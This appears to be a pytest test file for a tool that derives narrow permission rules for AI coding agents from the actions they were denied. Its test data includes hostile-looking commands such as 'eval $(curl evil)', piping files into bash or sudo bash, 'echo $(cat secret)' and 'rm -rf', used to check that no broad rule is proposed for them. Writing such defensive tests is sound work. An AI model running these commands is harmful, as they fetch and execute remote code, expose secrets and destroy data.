"""The narrowest rules for what an agent was denied."""

from __future__ import annotations

import pytest

from abp_tui.domain.model import Denial
from abp_tui.workers import acp_rules, claude_rules
from abp_tui.workers.claude_cli import ClaudeCliWorker, ClaudeOptions
from abp_tui.workers.rules import command_globs, gist, own_names, path_glob

ITEM = {"file_path": "/srv/docs/report.md"}


@pytest.mark.parametrize(
    ("command", "globs"),
    [
        ("wc a.pdf -", ["wc *"]),
        ("/usr/bin/wc a.pdf -", ["/usr/bin/wc *"]),
        ("git status -s", ["git status *"]),
        ("ls", ["ls"]),
        ("cd docs && pdftotext a.pdf - 2>/dev/null | head -5", ["pdftotext a.pdf -", "head *"]),
        ("tail -f x && rm -rf y", ["tail *", "rm -rf y"]),
        ("grep -E 'a|b;c' x", ["grep *"]),
        ('grep "a && b" x', ["grep *"]),
        ("# what it is for\nstat a.pdf -", ["stat *"]),
        ("", []),
    ],
)
def test_a_command_becomes_a_glob_for_each_of_its_programs(command: str, globs: list[str]) -> None:
    assert list(command_globs(command, ())) == globs


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf build",
        "/bin/rm -rf build",
        "find . -name x",
        "sed -i s/a/b/ x",
        "awk '{print $1}' x",
        "tar xf a.tar",
        "make all",
        "docker run x",
        "npx tool",
        "npm install x",
        "uv run x",
        "ssh host ls",
        "sudo ls x",
        "env -i ls x",
        "git -C x add y",
        "git -c core.pager=x log",
        "git log --output=x",
        "git push origin",
        "rg --pre x y",
        "timeout -k 5 30 ls x",
        "timeout 30 rm x",
        "nice bash -c ls",
        "A='b c' ls x",
        "A='b' ls x",
        "time -p ls x",
        "nohup -- ls x",
        "python3 -c 'print(1); print(2)'",
        "python3 -u build.py a",
        "python3 -m pip install x",
        "node -e 'x()'",
        "deno run x.ts",
        "bash -lc 'a && b'",
        "perl -I lib x.pl",
        "R x.R a",
        "python3 -m cProfile x.py",
        "'a program' x",
        "unlink a",
        "aws s3 ls",
        "java -jar x.jar",
        "pytest -q",
        "ffmpeg -i a b",
        "split a",
        "pdftotext a.pdf -",
        "sort -o b a",
        "uniq a b",
        "file -C -m x",
        "./wc a",
        "/srv/bin/cat a",
        "git add a.txt",
        "git branch -D x",
        "git tag -d x",
        "python3 build.py a",
        "/usr/bin/python3.12 ./tools/build a",
        "python3 -m pytest -s",
        "A=1 timeout 5 bash run.sh a b",
        "node x.js a",
        "LANG=C sort-it x",
    ],
)
def test_what_is_not_known_only_to_read_is_let_through_as_it_was(command: str) -> None:
    assert list(command_globs(command, ())) == [command]


@pytest.mark.parametrize(
    ("command", "glob"),
    [
        ("timeout 30 head a.pdf", "timeout 30 head *"),
        ("timeout 1.5m nice -n 10 nohup wc x", "timeout 1.5m nice -n 10 nohup wc *"),
        ("LANG=C cat x", "LANG=C cat *"),
        ("env A=1 B=2 wc x", "env A=1 B=2 wc *"),
        ("time wc x", "time wc *"),
        ("stdbuf -oL -e0 wc x", "stdbuf -oL -e0 wc *"),
    ],
)
def test_what_stands_before_the_program_is_kept(command: str, glob: str) -> None:
    assert list(command_globs(command, ())) == [glob]


@pytest.mark.parametrize(
    ("command", "glob"),
    [
        ("pdftotext report.md -", "pdftotext *.md -"),
        ("pdftotext '/srv/docs/report.md' \"out/report.txt\"", "pdftotext '/srv/docs/*.md' \"out/*.txt\""),
        ("convert ./report.png //x//report.jpg", "convert ./*.png //x//*.jpg"),
        ("tool --out=report s3://b/report.csv", "tool --out=* s3://b/*.csv"),
        ("tool report reports.md", "tool report reports.md"),
        ("report.sh report.md", "report.sh *.md"),
        ("python3 build.py report.md", "python3 build.py *.md"),
        ("python3 report.py x", "python3 report.py x"),
        ("timeout 9 bash report.sh report.md", "timeout 9 bash report.sh *.md"),
        ("python3 -u report.py", "python3 -u report.py"),
        ("python3 -c 'open(\"x\") ; report.md'", "python3 -c 'open(\"x\") ; report.md'"),
        ("bash -c 'wc -l report.md'", "bash -c 'wc -l report.md'"),
        ("find . -name report.md", "find . -name report.md"),
        ("awk '{print}' report.md", "awk '{print}' report.md"),
        ("ssh host cat report.md", "ssh host cat report.md"),
        ("rm -f report.md", "rm -f report.md"),
        ("/bin/cp report.md b", "/bin/cp report.md b"),
        ("curl -o report.md x", "curl -o report.md x"),
        ("wc report.md", "wc *"),
    ],
)
def test_the_items_name_in_the_files_of_a_command_gives_way(command: str, glob: str) -> None:
    assert list(command_globs(command, own_names(ITEM))) == [glob]


@pytest.mark.parametrize(
    ("tool", "detail", "words"),
    [
        ("Bash", "git log -5 --oneline", "Bash git"),
        ("Bash", "timeout 30 /usr/bin/Git show x && cd y | wc -l", "Bash git wc"),
        ("execute", "wc a; wc b", "execute wc"),
        ("Bash", 'echo "$(unclosed', "Bash echo"),
        ("Bash", "", "Bash"),
        ("Write", "/srv/a.md", "Write"),
    ],
)
def test_the_gist_of_a_denial_is_its_tool_and_its_programs(tool: str, detail: str, words: str) -> None:
    assert gist(Denial(tool=tool, detail=detail)) == words


@pytest.mark.parametrize(
    "command",
    [
        "echo $(cat secret)",
        'echo "$(cat secret)"',
        "echo `cat secret`",
        "echo x > file",
        "cat <<END\nx\nEND",
        "sleep 100 & ls",
        "(cd x; ls)",
        "for x in a b; do pdftotext $x; done",
        "while true; do ls; done",
        "if ls x; then ls y; fi",
        "f() { ls; }",
        "function f { ls; }",
        "{ ls; }",
        "! ls x",
        "[ -f x ] && ls x",
        "$EDITOR x",
        '"$A" x',
        "*.sh x",
        "rm -rf build/*",
        "python3 -c 'print(2*3)'",
        "find . | xargs grep x",
        "cat x | bash",
        "cat x | timeout 5 sh -s",
        "cat x | python3 -",
        "cat x | python3 -u -",
        "cat x | bash -es a.sh",
        "cat x | node /dev/stdin a",
        "bash",
        "cat x | sudo bash",
        "echo $'a' x",
        "python3 -c 'a\nb'",
        "rm \u202ex",
        "unclosed 'quote",
        "ls x; unclosed 'quote",
    ],
)
def test_nothing_is_proposed_where_even_the_same_words_could_do_something_else(command: str) -> None:
    assert list(command_globs(command, ())) == []


@pytest.mark.parametrize(
    ("path", "glob"),
    [
        ("/srv/docs/report.md", "/srv/docs/*.md"),
        ("/srv/out/report.summary.txt", "/srv/out/*.summary.txt"),
        ("/srv/out/report-2_report.txt", "/srv/out/*-2_*.txt"),
        ("/srv/out/reports.txt", "/srv/out/reports.txt"),
        ("/srv/out/myreport2.txt", "/srv/out/myreport2.txt"),
        ("/srv/report/index.html", "/srv/report/index.html"),
        ("out/report.txt", "out/*.txt"),
        ("out/report", "out/report"),
        ("out/.report", "out/.report"),
        ("out/report[1]*.txt", ""),
        ("out/report\n.txt", ""),
        ("/", "/"),
        ("s3://b//report.txt", "s3://b//*.txt"),
    ],
)
def test_the_items_name_in_a_path_gives_way(path: str, glob: str) -> None:
    assert path_glob(path, own_names(ITEM)) == glob
    assert path_glob(path, ()) == (path if glob else "")


def test_an_item_of_one_letter_leaves_other_words_whole() -> None:
    assert path_glob("out/alpha.txt", own_names({"file_path": "a.txt"})) == "out/alpha.txt"
    assert path_glob("out/a.txt", own_names({"file_path": "a.txt"})) == "out/*.txt"


def test_an_item_is_named_by_its_file_or_its_id() -> None:
    assert own_names({"file_path": "/x/a.txt", "size": 3}) == ("a",)
    assert own_names({"_id": 17, "kind": "x"}) == ("17",)
    assert own_names({"n": 1}) == ()


def claude(*denied: tuple[str, str]) -> list[str]:
    return list(
        claude_rules.rules([Denial(tool=tool, detail=detail) for tool, detail in denied], own_names(ITEM))
    )


def test_the_rules_of_claude() -> None:
    assert claude(
        ("Bash", "pdftotext /srv/docs/report.md"),
        ("Bash", "wc -l x"),
        ("Write", "/srv/docs/report.md"),
        ("Edit", "/srv/docs/report.md"),
        ("Edit", "notes.txt"),
        ("Read", "/etc/hosts"),
        ("WebFetch", "https://example.org/a?b=c"),
        ("WebSearch", "cats"),
        ("mcp__abp__list_jobs", "{}"),
    ) == [
        "Bash(pdftotext /srv/docs/*.md)",
        "Bash(wc *)",
        "Edit(//srv/docs/*.md)",
        "Edit(notes.txt)",
        "Read(//etc/hosts)",
        "WebFetch(domain:example.org)",
        "WebSearch",
        "mcp__abp__list_jobs",
    ]


def test_nothing_wide_is_proposed_for_what_is_not_understood() -> None:
    assert (
        claude(
            ("Write", "Claude requested permissions to write to b.txt"),
            ("Bash", "eval $(curl evil)"),
            ("WebFetch", "no address"),
            ("SomeNewTool", "x"),
            ("Write", ""),
        )
        == []
    )


def test_each_proposed_rule_is_an_option_that_claude_takes() -> None:
    rules = claude(("Bash", "pdftotext a"), ("Write", "/srv/docs/report.md"))
    worker = ClaudeCliWorker(ClaudeOptions(allowed_tools=tuple(rules)))
    assert worker.rules() == tuple(rules)


def test_the_rules_of_acp() -> None:
    denials = [
        Denial(tool=t, detail=d) for t, d in (("execute", "git status x"), ("Write", "/srv/docs/report.md"))
    ]
    denials += [Denial(tool="fetch", detail="https://example.org"), Denial(tool="Strange", detail="x")]
    rules = list(acp_rules.rules_for(denials, own_names(ITEM)))
    assert rules == ["execute(git status *)", "edit(/srv/docs/*.md)", "fetch(https://example.org)"]
    assert acp_rules.allowed(acp_rules.Wish("execute", "git status y"), rules, ()) is True
    assert acp_rules.allowed(acp_rules.Wish("execute", "git push"), rules, ()) is None
    for rule in rules:
        assert acp_rules.check_rule(rule) == rule


@pytest.mark.parametrize(
    ("command", "rules", "other"),
    [
        ("cd docs && wc x", ["execute(cd docs && wc x)"], "cd docs && wc y"),
        ("python3 -c 'print(1); print(2)'", ["execute(python3 -c 'print(1); print(2)')"], "python3 -c 'x'"),
        ("rm a[1].txt", ["execute(rm a[[]1].txt)"], "rm a1.txt"),
        ("cd docs\nwc x", [], "cd docs\nwc y"),
        ("rm x?", ["execute(rm x[?])"], "rm xy"),
        ("rm -rf x && python3 -c 'a[0]'", [], "rm -rf x && python3 -c 'a0'"),
    ],
)
def test_a_rule_of_acp_lets_through_what_it_was_made_of_and_no_other(
    command: str, rules: list[str], other: str
) -> None:
    found = list(acp_rules.rules_for([Denial(tool="execute", detail=command)], ()))
    assert found == rules
    assert acp_rules.allowed(acp_rules.Wish("execute", command), found, ()) is (True if rules else None)
    assert acp_rules.allowed(acp_rules.Wish("execute", other), found, ()) is None
